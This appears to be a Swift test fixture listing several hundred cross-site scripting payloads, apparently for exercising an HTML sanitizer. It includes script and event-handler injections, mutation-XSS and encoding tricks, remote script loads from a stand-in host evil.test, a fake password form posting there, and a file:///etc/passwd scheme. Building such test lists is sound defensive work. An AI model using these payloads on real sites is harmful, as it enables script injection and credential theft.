/// Markup that has run scripts, drawn over pages or fetched things elsewhere, in one product or another.
enum Payloads {
  static let all: [String] = named + events + schemes + wrapped

  private static let named = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script/src=data:,alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script\u{0}>alert(1)</script>", "<script\n>alert(1)</script\n>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>", "<object data=javascript:alert(1)>", "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>", "<applet code=x>", "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=import href=x>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta charset=utf-7>", "<style>@import '//evil.test'</style>",
    "<style>*{background:url(//evil.test)}</style>", "<style><!--</style><script>alert(1)</script>-->", "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>", "<div style=width:expression(alert(1))>", "<div id=content class=composer>x</div>", "<p id=x name=y>",
    "<form action=//evil.test><input name=password><button>Go</button></form>", "<button formaction=javascript:alert(1)>x", "<input onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1)>", "<textarea><script>alert(1)</script>", "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>", "<title></title><img src=x onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img src=x onerror=alert(1)></noembed>", "<noframes></noframes><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>", "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->", "<!---><script>alert(1)</script>", "<!--!><img src=x onerror=alert(1)>", "<!--x--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE x [<!ENTITY y '<script>'>]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<? foo='><script>alert(1)</script>'>",
    "<% foo %><script>alert(1)</script>", "</ foo='><script>alert(1)</script>'>", "<a href=\"x\"style=\"y\"onclick=alert(1)>x</a>", "<a/href=javascript:alert(1)>x",
    "<a href=`javascript:alert(1)`>x</a>", "<a title='\"><script>alert(1)</script>'>x</a>", "<a title=\"'><img src=x onerror=alert(1)>\">x</a>",
    "<b title=x\u{0}onmouseover=alert(1)>x</b>", "<b \"=\" onmouseover=alert(1)>x</b>", "<b ='x' onmouseover=alert(1)>", "<b/onmouseover=alert(1)/>x",
    "<img src=x:alert(1) onerror=eval(src)>", "<img src=\"x\" `<script>alert(1)</script>\"` `>", "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' onerror\u{0C}=alert(1)>", "<image src=x onerror=alert(1)>", "<img src=javascript:alert(1)>", "<img srcset='x 1x' onerror=alert(1)>",
    "<img lowsrc=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>", "<img src=data:image/svg+xml,<svg/onload=alert(1)>>", "<picture><source srcset=//evil.test>",
    "<video><source onerror=alert(1)>", "<video poster=//evil.test/x>", "<audio src=x onerror=alert(1)>", "<body background=//evil.test/x onload=alert(1)>",
    "<table background=javascript:alert(1)>", "<td background=//evil.test/x>", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.test/x></layer>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>x",
    "<dialog open onclose=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)><option>x", "<map><area href=javascript:alert(1)>",
    "<x onclick=alert(1)>x</x>", "<custom-element onfocus=alert(1) tabindex=0>", "<xss style=x:expression(alert(1))>", "<a ping=//evil.test href=https://x.test>x</a>",
    "<a href=https://x.test download=x.exe>x</a>", "<a href=//evil.test>x</a>", "<a href=/logout>x</a>", "<a href=?x>x</a>", "<a href='#' onclick=alert(1)>",
    "<q cite=javascript:alert(1)>", "<blockquote cite=javascript:alert(1)>", "<del cite=javascript:alert(1)>", "<ol start='1 onload=x'>", "<td colspan='9\"onx=y'>",
    "<p lang='en\" onclick=alert(1)'>", "<p dir='ltr onclick=x'>", "<p align='\"><script>alert(1)</script>'>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{1B}$B<script>alert(1)</script>\u{1B}(B", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;", "<p>&lt;img src=x onerror=alert(1)&gt;", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>", "javascript:alert(1)",
    "<listing><img src=x onerror=alert(1)></listing>", "<p><style></p><img src=x onerror=alert(1)></style>", "<style/><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<table><style><!--</table><img src=x onerror=alert(1)>--></style>",
    "<d/d/onclick=alert(1)>", "<img src=x onerror=alert(1)//", "<img src=x onerror=alert(1)", "<script>alert(1)", "<a href=\"javascript:alert(1)", "<!--<script>alert(1)</script>",
    "<b title=\"unclosed", "<", "</", "<!", "<a", "<a ", "<a href", "<a href=", "<a href=\"", "&", "&#", "&#x", "&#99999999999;", "&#0;",
  ]

  private static let events = [
    "onabort", "onauxclick", "onbeforeinput", "onbeforetoggle", "onblur", "oncanplay", "onchange", "onclick", "oncopy", "ondrag", "onerror", "onfocus", "onfocusin",
    "onhashchange", "oninput", "onkeydown", "onload", "onmouseenter", "onmouseover", "onpaste", "onpointerdown", "onpointerover", "onscroll", "onscrollend", "onsubmit",
    "ontoggle", "ontouchstart", "ontransitionend", "onwheel", "onanimationstart",
  ].flatMap { ["<p \($0)=alert(1)>x</p>", "<a href=https://x.test \($0.uppercased())='alert(1)'>x</a>"] }

  private static let schemes = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "\u{1}javascript:alert(1)", "javascript\u{0}:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd", "blob:https://x.test/1", "view-source:https://x.test", "feed:javascript:alert(1)", "jar:https://x.test!/", "about:blank", "ftp://x.test",
    "php://filter", "intent://x", "ms-word:ofe|u|x", "livescript:x", "mocha:x", "cid:x", "tel:1", "//evil.test", "\\\\evil.test", "/x", "x", "",
    "http:javascript:alert(1)", "https:evil.test", "javascript://https://x.test/%0aalert(1)",
  ].flatMap { ["<a href=\"\($0)\">x</a>", "<a href='\($0)'>x</a>"] }

  private static let wrapped = ["script", "iframe", "object", "svg/onload=alert(1)", "img src=x onerror=alert(1)", "style"].flatMap { name in
    ["<b><\(name)></b>", "<\(name)\u{2028}>", "<p><\(name.uppercased())>x", "<\(name)><\(name)>", "<//\(name)>", "<\u{200B}\(name)>", "<p/><\(name)/>"]
  }
}
